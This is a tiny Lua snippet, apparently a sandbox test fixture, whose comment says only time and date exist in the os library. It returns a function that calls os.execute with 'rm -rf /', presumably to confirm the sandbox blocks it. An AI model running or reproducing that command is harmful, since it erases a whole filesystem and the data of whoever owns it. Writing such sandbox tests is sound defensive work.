-- os beyond time and date is not there.
return {note = function() os.execute("rm -rf /") end}
